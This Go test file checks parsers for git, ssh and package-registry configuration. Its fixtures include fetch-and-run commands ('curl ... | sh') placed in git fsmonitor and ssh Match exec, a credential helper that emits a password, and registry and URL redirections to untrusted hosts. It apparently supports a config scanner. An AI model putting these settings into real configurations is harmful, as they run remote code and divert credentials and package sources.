package ini

import (
	"strings"
	"testing"
)

func TestGit(t *testing.T) {
	src := "# comment\n[core]\n\tfsmonitor = \"curl -s http://192.0.2.1/x | sh\" ; note\n\tpager = less -R\n[alias \"x\"]\n[alias]\n\tsync = !git pull && git push\n[filter \"lfs\"]\n\tsmudge = git-lfs smudge -- %f\n[core] editor = vim\n[credential]\n\thelper = \"!f() { echo \\\"password=$T\\\"; }; f\"\n\tbare\n[url \"https://x.invalid/\"]\n\tinsteadOf = https://github.com/\n"
	es := Git(src)
	want := []struct{ sec, sub, key, val string }{
		{"core", "", "fsmonitor", "curl -s http://192.0.2.1/x | sh"},
		{"core", "", "pager", "less -R"},
		{"alias", "", "sync", "!git pull && git push"},
		{"filter", "lfs", "smudge", "git-lfs smudge -- %f"},
		{"core", "", "editor", "vim"},
		{"credential", "", "helper", `!f() { echo "password=$T"; }; f`},
		{"credential", "", "bare", "true"},
		{"url", "https://x.invalid/", "insteadOf", "https://github.com/"},
	}
	if len(es) != len(want) {
		t.Fatalf("got %d entries, want %d: %+v", len(es), len(want), es)
	}
	for i, w := range want {
		e := es[i]
		if e.Section != w.sec || e.Sub != w.sub || e.Key != w.key || e.Value != w.val {
			t.Errorf("entry %d = %+v, want %+v", i, e, w)
		}
	}
	if e := es[1]; !e.Exact || src[e.Start:e.End] != "less -R" {
		t.Errorf("pager span %q exact %v", src[es[1].Start:es[1].End], e.Exact)
	}
	if e := es[0]; e.Exact || !strings.HasPrefix(src[e.Start:e.End], `"curl`) {
		t.Errorf("quoted span %q exact %v", src[e.Start:e.End], e.Exact)
	}
}

func TestGitContinuation(t *testing.T) {
	es := Git("[alias]\n\tx = !echo a \\\n && echo b\n")
	if len(es) != 1 || es[0].Value != "!echo a  && echo b" {
		t.Fatalf("%+v", es)
	}
}

func TestSSH(t *testing.T) {
	src := "Host bastion\n  HostName 192.0.2.4\n  ProxyCommand ssh -W %h:%p \"jump\"\nMatch host * exec \"curl -s https://x.invalid/p | sh\"\n  PermitLocalCommand=yes\n  LocalCommand /tmp/.x/run\n"
	es := SSH(src)
	got := map[string]string{}
	for _, e := range es {
		got[e.Key] = e.Value
	}
	if got["ProxyCommand"] != `ssh -W %h:%p "jump"` || got["Match exec"] != "curl -s https://x.invalid/p | sh" ||
		got["PermitLocalCommand"] != "yes" || got["LocalCommand"] != "/tmp/.x/run" || got["HostName"] != "192.0.2.4" {
		t.Fatalf("%+v", es)
	}
	for _, e := range es {
		if e.Exact && src[e.Start:e.End] != e.Value {
			t.Errorf("%s span %q", e.Key, src[e.Start:e.End])
		}
	}
}

func TestLines(t *testing.T) {
	src := "registry=http://192.0.2.8:4873/\n@acme:registry = https://npm.pkg.github.com\n//npm.pkg.github.com/:_authToken=${T}\n[global]\nindex-url = https://pypi.org/simple\nextra-index-url =\n    https://download.pytorch.org/whl/cu121\n    http://203.0.113.9/simple\n[[index]]\nurl = \"https://x.invalid/simple\"\nnpmRegistryServer: \"https://r.invalid\"\nregistry \"https://y.invalid\"\n"
	es := Lines(src)
	var kv []string
	for _, e := range es {
		kv = append(kv, e.Section+"|"+e.Key+"="+e.Value)
	}
	got := strings.Join(kv, "\n")
	want := strings.Join([]string{
		"|registry=http://192.0.2.8:4873/",
		"|@acme:registry=https://npm.pkg.github.com",
		"|//npm.pkg.github.com/:_authToken=${T}",
		"global|index-url=https://pypi.org/simple",
		"global|extra-index-url=",
		"global|extra-index-url=https://download.pytorch.org/whl/cu121",
		"global|extra-index-url=http://203.0.113.9/simple",
		"index|url=https://x.invalid/simple",
		"index|npmRegistryServer=https://r.invalid",
		"index|registry=https://y.invalid",
	}, "\n")
	if got != want {
		t.Fatalf("got\n%s\nwant\n%s", got, want)
	}
}
